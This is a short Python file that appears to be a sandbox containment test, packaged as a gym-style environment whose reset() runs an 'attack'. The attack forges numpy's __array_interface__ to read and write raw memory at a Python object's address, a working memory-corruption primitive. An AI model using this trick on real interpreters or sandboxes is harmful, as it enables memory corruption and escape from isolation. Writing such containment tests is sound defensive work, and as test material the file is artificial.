# expect: contain
# arbitrary write: overwrite one own object's bytes through __array_interface__; needs no receiver trick
import numpy as np
class O:
    def __getattr__(self, name):
        if name == "__array_interface__":
            return {"version": 3, "shape": (16,), "typestr": "|u1", "data": (self.addr, False)}
        raise AttributeError(name)
def addr_of(x):
    return hash(x) * 16 if False else int(object.__repr__(x).split("0x")[1][:-1], 16)
class Box: pass
def attack():
    t = "A" * 8
    class T: pass
    # bytes objects have no address in repr; a bound method's repr shows the object's; use a list iterator instead
    o = O(); it = iter([1, 2, 3]); o.addr = int(repr(it).split("0x")[1][:-1], 16)
    before = list(np.asarray(o)[:8])
    np.asarray(o)[0] = np.asarray(o)[0] + 1   # refcount + 1: memory is written
    return before, list(np.asarray(o)[:8])

class TEnv:
    def __init__(self): self.reset()
    def reset(self, seed=None):
        try:
            r = attack()
        except Exception as e:
            r = f"EXC {type(e).__name__}: {e}"
        return str(r)[:600], {}
    def step(self, action): return "x", 0.0, True, False, {}
